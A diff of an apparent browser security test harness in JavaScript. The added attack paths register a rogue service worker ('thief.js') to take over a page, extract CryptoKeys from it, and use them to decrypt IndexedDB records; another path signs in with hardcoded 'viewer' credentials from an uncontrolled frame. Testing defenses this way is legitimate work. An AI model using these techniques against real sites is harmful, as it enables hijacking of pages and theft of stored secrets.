@@ -52,7 +52,7 @@ const questions = QUESTIONS.flatMap((ask) =>
 )
 
 /** All records of all databases, and what each key in them makes of each of them. */
-async function databases() {
+async function databases(more = []) {
   const loot = []
   for (const { name } of await indexedDB.databases()) {
     const database = await new Promise((resolve) => {
@@ -65,7 +65,7 @@ async function databases() {
     }
     database.close()
   }
-  const keys = loot.map((record) => record?.key).filter((key) => key instanceof CryptoKey)
+  const keys = [...more, ...loot.map((record) => record?.key)].filter((key) => key instanceof CryptoKey)
   for (const { iv, data } of loot.filter((record) => record?.iv)) {
     for (const key of keys) loot.push(await settled(crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, data)))
   }
@@ -96,6 +96,16 @@ const call = async () => {
 }
 const VIEWER = { username: 'viewer', password: 'viewer' }
 const signingIn = () => fetch('/login', { method: 'POST', body: new URLSearchParams(VIEWER) })
+
+/** Resolves when that script is in control of the page. */
+async function inControl(script) {
+  while (!navigator.serviceWorker.controller?.scriptURL.endsWith(script)) {
+    await new Promise((resolve) => {
+      navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true })
+      setTimeout(resolve, 500)
+    })
+  }
+}
 
 /** In a frame of this origin, once it has loaded: what it shows. */
 async function frame(fill) {
@@ -244,12 +254,25 @@ const ways = {
   },
   'asks from a worker of its own': () =>
     inWorker(`fetch('${location.origin}/me').then(async (r) => postMessage([...r.headers].join() + await r.text()))`),
-  'puts a worker of its own in place of ours': async () => {
+  'puts a worker of its own in place of ours, and plants a key in the next': async () => {
     const registration = await settled(navigator.serviceWorker.register('/uploads/thief.js', { scope: '/' }))
     const thief = registration.installing ?? registration.waiting
     if (!thief) return 'refused'
+    await inControl('thief.js')
     const loot = await asking(thief, 'what did you get')
     await settled(navigator.serviceWorker.register('/worker.js'))
+    await inControl('worker.js')
+    await settled(signingIn())
+    const [key] = loot.flat().filter((value) => value instanceof CryptoKey)
+    return [loot.flat().filter((value) => value !== key), await databases([key])]
+  },
+  "makes the worker's script a part of its own": async () => {
+    const options = { type: 'module', scope: '/uploads/' }
+    const registration = await settled(navigator.serviceWorker.register('/uploads/module.js', options))
+    const thief = registration.installing ?? registration.waiting ?? registration.active
+    if (!thief) return 'refused'
+    const loot = await asking(thief, 'what did you get')
+    await registration.unregister()
     return loot
   },
   'throws the worker away, and looks what is left': async () => {
@@ -259,6 +282,16 @@ const ways = {
     await settled(navigator.serviceWorker.register('/worker.js'))
     return loot
   },
+}
+
+/** With the user's password, from a window that no worker controls: what no worker can keep from it. */
+globalThis.signInFromObject = async () => {
+  const element = Object.assign(document.createElement('object'), { data: '/public', type: 'text/html' })
+  const loaded = new Promise((resolve) => element.addEventListener('load', resolve))
+  document.body.append(element)
+  await loaded
+  const body = new URLSearchParams(VIEWER)
+  return (await element.contentWindow.fetch('/login', { method: 'POST', body })).text()
 }
 
 globalThis.ways = Object.keys(ways)
